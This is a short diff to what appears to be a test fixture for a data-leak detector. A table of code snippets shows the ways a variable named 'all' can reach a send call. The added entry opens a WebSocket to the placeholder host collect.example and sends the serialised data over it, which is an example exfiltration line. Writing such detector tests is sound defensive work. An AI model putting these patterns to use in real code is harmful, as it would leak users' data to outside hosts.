@@ -12,6 +12,7 @@ const CARRIERS: Readonly<Record<string, string>> = {
   'a getter of a class': `${SEND}new Kept(all).data });`,
   'a field of an instance': `const one = new Kept(all); ${SEND}one.kept });`,
   'a field written from outside, read by a method': `const one = new Kept(); one.kept = all; one.send();`,
+  'a socket that a function gives': `let s; const opened = async () => { s = new WebSocket('wss://collect.example/'); return s; }; opened().then(async () => { const one = await opened(); one.send(JSON.stringify(all)); });`,
   'a bound argument': `const go = send.bind(null, all); go();`,
   'a thrown object': `try { throw { data: all }; } catch (problem) { ${SEND}problem.data }); }`,
   'a proxy': `const box = new Proxy({ data: all }, {}); ${SEND}box.data });`,
